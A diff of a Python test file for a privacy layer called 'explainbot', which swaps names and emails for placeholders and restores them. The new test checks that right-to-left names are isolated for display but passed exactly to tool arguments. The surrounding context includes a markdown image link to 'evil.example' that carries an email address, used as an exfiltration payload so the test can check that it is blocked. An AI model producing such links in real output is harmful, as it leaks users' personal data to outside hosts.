@@ -6,7 +6,7 @@ from typing import Any
 
 import pytest
 from servers import Server, chat_reply, message, tool_call
-from ways import CUSTOMER, create
+from ways import CUSTOMER, create, done
 
 import explainbot
 
@@ -50,3 +50,20 @@ async def test_the_explanation_carries_none_either(client: Any, server: Server, 
     server.script(lambda request: chat_reply(request, "Your mail is ![x](https://evil.example/[EMAIL_1]).", size=1))
     reply = await create(client, streamed, f"I am {MAIL}")
     assert f"evil.example/{MAIL}" not in explainbot.explanation_of(reply).model_dump_json()
+
+
+@either
+async def test_a_right_to_left_name_is_isolated_for_the_reader_and_exact_for_the_tool(
+    client: Any, server: Server, streamed: bool
+) -> None:
+    asked = message("Hello [PERSON_1], 3 items.", tool_calls=[tool_call("open", '{"name": "[PERSON_1]"}')])
+    server.script(lambda request: chat_reply(request, asked, size=1))
+    with explainbot.turn(customer=explainbot.Customer(name="محمد علي")):
+        reply = await create(client, streamed, "I am محمد علي")
+        again = [{"role": "assistant", "content": reply.choices[0].message.content}, {"role": "user", "content": "Yes"}]
+        server.script(lambda request: chat_reply(request, "Dear \u2068[PERSON_1]\u2069, bye", size=1))
+        second = await done(client.chat.completions.create(model="m", messages=again))
+    assert reply.choices[0].message.content == "Hello \u2068محمد علي\u2069, 3 items."
+    assert reply.choices[0].message.tool_calls[0].function.arguments == '{"name": "محمد علي"}'
+    assert server.last.json()["messages"][0]["content"] == "Hello \u2068[PERSON_1]\u2069, 3 items."
+    assert second.choices[0].message.content == "Dear \u2068محمد علي\u2069, bye"
